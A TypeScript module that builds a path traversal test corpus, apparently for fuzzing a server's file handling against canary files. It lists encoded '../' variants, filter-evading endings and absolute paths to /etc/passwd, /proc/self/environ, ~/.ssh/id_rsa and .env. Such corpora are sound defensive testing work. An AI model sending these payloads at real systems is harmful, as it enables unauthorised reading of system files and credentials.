const words = (text: string): string[] => text.trim().split(/\s+/)

/** One step up, as it is written to get past a filter. */
const STEPS = words(String.raw`
  ../ ..\ ..%2f ..%5c %2e%2e/ %2e%2e%2f %2e%2e%5c %252e%252e%252f %252e%252e/ ..%252f ..%255c %c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af
  %25c0%25ae%25c0%25ae/ ..%c0%af ..%ef%bc%8f %uff0e%uff0e%u2215 %uF025%uF025/ 0x2e0x2e/ %%32%65%%32%65/ .//..// ....// ..;/ .%00./ ..././ ..%00/`)

/** Files that lie above what is served. */
const TARGETS = words('etc/passwd secret canary.txt package.json mail/canary.eml')

/** What is put behind a path so that a filter of endings lets it pass. */
const ENDINGS = words('%00 %00.jpg %2500.png ;index.html ?.css %23.ttf /. %20 . %0d%0a ~ ::$DATA')

const ABSOLUTE = words(String.raw`
  /etc/passwd //etc/passwd %2fetc%2fpasswd %252fetc%252fpasswd /proc/self/environ %2fproc%2fself%2fenviron /proc/self/cwd/package.json
  file:///etc/passwd file:%2f%2f%2fetc%2fpasswd C:\Windows\win.ini C:%5cWindows%5cwin.ini \\127.0.0.1\c$\boot.ini ~/.ssh/id_rsa .git/config .env
  node_modules/.package-lock.json %00 %ff %zz % %c0 . .. ... %2e %2e%2e`)

const RUNS = ['../', '..%2f', '%2e%2e%2f', '..\\', 'a/../', './', '%2e/', 'A']

/** The path corpus (S4): every way up, seven deep, to every target; endings that fool filters; absolute paths; long runs. Sent as written. */
export const paths: readonly string[] = [
  ...new Set([
    ...STEPS.flatMap((step) => TARGETS.flatMap((target) => [1, 2, 3, 4, 5, 6, 7].map((depth) => step.repeat(depth) + target))),
    ...ENDINGS.flatMap((ending) => ['../', '..%2f', '%2e%2e%2f', '%252e%252e%252f'].map((step) => `${step.repeat(4)}etc/passwd${ending}`)),
    ...ABSOLUTE,
    ...RUNS.flatMap((run) => [40, 400, 4_000].map((length) => `${run.repeat(Math.ceil(length / run.length))}etc/passwd`)),
  ]),
]
